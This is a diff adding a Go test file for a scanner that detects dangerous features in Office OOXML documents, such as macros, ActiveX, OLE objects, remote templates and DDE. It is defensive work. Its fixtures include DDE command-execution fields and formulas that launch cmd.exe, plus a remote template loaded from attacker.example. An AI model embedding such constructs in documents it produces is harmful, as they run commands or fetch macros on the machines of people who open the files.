@@ -0,0 +1,263 @@
+package scan
+
+import (
+	"archive/zip"
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+
+	"github.com/reclaim/openwith/internal/filetypes"
+)
+
+// writePackage creates an OOXML package from name/content pairs
+func writePackage(t *testing.T, entries ...string) string {
+	t.Helper()
+	path := filepath.Join(t.TempDir(), "doc.zip")
+	f, err := os.Create(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+
+	zw := zip.NewWriter(f)
+	for i := 0; i+1 < len(entries); i += 2 {
+		w, err := zw.Create(entries[i])
+		if err != nil {
+			t.Fatal(err)
+		}
+		w.Write([]byte(entries[i+1]))
+	}
+	if err := zw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return path
+}
+
+func contentTypes(overrides ...string) string {
+	var b strings.Builder
+	b.WriteString(`<?xml version="1.0" encoding="UTF-8"?>
+<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
+<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>
+`)
+	for i := 0; i+1 < len(overrides); i += 2 {
+		b.WriteString(`<Override PartName="` + overrides[i] + `" ContentType="` + overrides[i+1] + `"/>` + "\n")
+	}
+	b.WriteString("</Types>")
+	return b.String()
+}
+
+func rels(targets ...string) string {
+	var b strings.Builder
+	b.WriteString(`<?xml version="1.0" encoding="UTF-8"?>
+<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
+`)
+	for i := 0; i+2 < len(targets); i += 3 {
+		b.WriteString(`<Relationship Id="rId` + string(rune('1'+i/3)) + `" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/` +
+			targets[i] + `" Target="` + targets[i+1] + `" TargetMode="` + targets[i+2] + `"/>` + "\n")
+	}
+	b.WriteString("</Relationships>")
+	return b.String()
+}
+
+const (
+	sheetMain = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
+	wordMain  = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
+	wordNS    = `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"`
+)
+
+func TestScanOOXML(t *testing.T) {
+	tests := []struct {
+		name    string
+		ext     string
+		entries []string
+		want    []Finding
+	}{
+		{
+			name: "clean workbook",
+			ext:  "xlsx",
+			entries: []string{
+				"[Content_Types].xml", contentTypes("/xl/workbook.xml", sheetMain),
+				"xl/_rels/workbook.xml.rels", rels("worksheet", "worksheets/sheet1.xml", "Internal"),
+				"xl/worksheets/sheet1.xml", `<worksheet><sheetData><row><c><f>SUM(A1:A3)</f></c></row></sheetData></worksheet>`,
+				"xl/worksheets/_rels/sheet1.xml.rels", rels("hyperlink", "https://example.com/", "External"),
+			},
+			want: nil,
+		},
+		{
+			name: "vba project",
+			ext:  "xlsx",
+			entries: []string{
+				"[Content_Types].xml", contentTypes("/xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
+				"xl/vbaProject.bin", "\xd0\xcf\x11\xe0",
+			},
+			want: []Finding{
+				{Kind: KindMacros, Part: "xl/vbaProject.bin"},
+				{Kind: KindMacros, Part: "xl/workbook.xml"},
+			},
+		},
+		{
+			name: "excel 4.0 macro sheet",
+			ext:  "xlsx",
+			entries: []string{
+				"[Content_Types].xml", contentTypes(
+					"/xl/workbook.xml", sheetMain,
+					"/xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml",
+				),
+			},
+			want: []Finding{{Kind: KindMacros, Part: "xl/macrosheets/sheet1.xml"}},
+		},
+		{
+			name: "activex control",
+			ext:  "docx",
+			entries: []string{
+				"[Content_Types].xml", contentTypes(
+					"/word/document.xml", wordMain,
+					"/word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml",
+				),
+				"word/activeX/activeX1.xml", "<ax:ocx/>",
+				"word/activeX/activeX1.bin", "\xd0\xcf\x11\xe0",
+				"word/activeX/_rels/activeX1.xml.rels", rels("activeXControlBinary", "activeX1.bin", "Internal"),
+			},
+			want: []Finding{
+				{Kind: KindActiveX, Part: "word/activeX/activeX1.bin"},
+				{Kind: KindActiveX, Part: "word/activeX/activeX1.xml"},
+			},
+		},
+		{
+			name: "ole embedding",
+			ext:  "pptx",
+			entries: []string{
+				"ppt/embeddings/oleObject1.bin", "\xd0\xcf\x11\xe0",
+				// Chart data is an embedded workbook, which is normal
+				"ppt/embeddings/Microsoft_Excel_Worksheet.xlsx", "PK",
+				"ppt/embeddings/Microsoft_Excel_Macro-Enabled_Worksheet.xlsm", "PK",
+			},
+			want: []Finding{
+				{Kind: KindMacros, Part: "ppt/embeddings/Microsoft_Excel_Macro-Enabled_Worksheet.xlsm", Detail: "embedded document"},
+				{Kind: KindOLEObject, Part: "ppt/embeddings/oleObject1.bin"},
+			},
+		},
+		{
+			name: "remote template",
+			ext:  "docx",
+			entries: []string{
+				"word/_rels/settings.xml.rels", rels("attachedTemplate", "https://attacker.example/t.dotm", "External"),
+			},
+			want: []Finding{{
+				Kind:   KindExternalRelationship,
+				Part:   "word/_rels/settings.xml.rels",
+				Detail: "attachedTemplate: https://attacker.example/t.dotm",
+			}},
+		},
+		{
+			name: "dde field split across runs",
+			ext:  "docx",
+			entries: []string{
+				"word/document.xml", `<w:document ` + wordNS + `><w:body><w:p>
+<w:r><w:fldChar w:fldCharType="begin"/></w:r>
+<w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>
+<w:r><w:instrText xml:space="preserve">AUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r>
+<w:r><w:fldChar w:fldCharType="separate"/></w:r>
+<w:r><w:t>Loading</w:t></w:r>
+<w:r><w:fldChar w:fldCharType="end"/></w:r>
+</w:p></w:body></w:document>`,
+			},
+			want: []Finding{{Kind: KindDDE, Part: "word/document.xml", Detail: `DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"`}},
+		},
+		{
+			name: "dde simple field and ordinary fields",
+			ext:  "docx",
+			entries: []string{
+				"word/footer1.xml", `<w:ftr ` + wordNS + `><w:p>
+<w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple>
+<w:fldSimple w:instr="dde cmd /c calc"/>
+</w:p></w:ftr>`,
+			},
+			want: []Finding{{Kind: KindDDE, Part: "word/footer1.xml", Detail: "dde cmd /c calc"}},
+		},
+		{
+			name: "dde formula",
+			ext:  "xlsx",
+			entries: []string{
+				"xl/worksheets/sheet1.xml", `<worksheet><sheetData><row><c><f>cmd|' /C calc'!A0</f></c></row></sheetData></worksheet>`,
+			},
+			want: []Finding{{Kind: KindDDE, Part: "xl/worksheets/sheet1.xml", Detail: "cmd|' /C calc'!"}},
+		},
+		{
+			name: "dde external link",
+			ext:  "xlsx",
+			entries: []string{
+				"xl/externalLinks/externalLink1.xml", `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`,
+			},
+			want: []Finding{{Kind: KindDDE, Part: "xl/externalLinks/externalLink1.xml", Detail: "cmd|/c calc"}},
+		},
+		{
+			name: "malformed part",
+			ext:  "docx",
+			entries: []string{
+				"word/document.xml", `<w:document><w:body`,
+			},
+			want: []Finding{{Kind: KindIncomplete, Part: "word/document.xml", Detail: "malformed XML"}},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			ft, _ := filetypes.Lookup(tt.ext)
+			got, err := File(writePackage(t, tt.entries...), ft)
+			if err != nil {
+				t.Fatalf("File() error: %v", err)
+			}
+			if !reflect.DeepEqual(got, tt.want) {
+				t.Errorf("File() =\n%+v\nwant\n%+v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestScanOOXML_Limits(t *testing.T) {
+	defer func(part, total int64) { maxPartSize, maxScanSize = part, total }(maxPartSize, maxScanSize)
+	maxPartSize, maxScanSize = 1024, 1536
+
+	// Padding parts use up the budget ahead of the relationships
+	padding := `<w:document ` + wordNS + `><w:body>` + strings.Repeat("<w:p/>", 200) + `</w:body></w:document>`
+	ft, _ := filetypes.Lookup("docx")
+	got, err := File(writePackage(t,
+		"word/document.xml", padding,
+		"word/header1.xml", padding,
+		"word/_rels/settings.xml.rels", rels("attachedTemplate", "https://attacker.example/t.dotm", "External"),
+	), ft)
+	if err != nil {
+		t.Fatalf("File() error: %v", err)
+	}
+	want := []Finding{
+		{Kind: KindIncomplete, Part: "word/_rels/settings.xml.rels", Detail: "too much content to scan"},
+		{Kind: KindIncomplete, Part: "word/document.xml", Detail: "too large to scan"},
+		{Kind: KindIncomplete, Part: "word/header1.xml", Detail: "too large to scan"},
+	}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("File() =\n%+v\nwant\n%+v", got, want)
+	}
+}
+
+func TestFile_NotScanned(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "notes.txt")
+	if err := os.WriteFile(path, []byte("DDEAUTO cmd"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	ft, _ := filetypes.Lookup("txt")
+	findings, err := File(path, ft)
+	if err != nil || len(findings) != 0 {
+		t.Errorf("File() = %v, %v; want no findings", findings, err)
+	}
+}
+
+func TestFinding_Description(t *testing.T) {
+	f := Finding{Kind: KindExternalRelationship, Detail: "attachedTemplate: https://example.com/t.dotm"}
+	want := "Loads content from an external location (attachedTemplate: https://example.com/t.dotm)"
+	if got := f.Description(); got != want {
+		t.Errorf("Description() = %q, want %q", got, want)
+	}
+}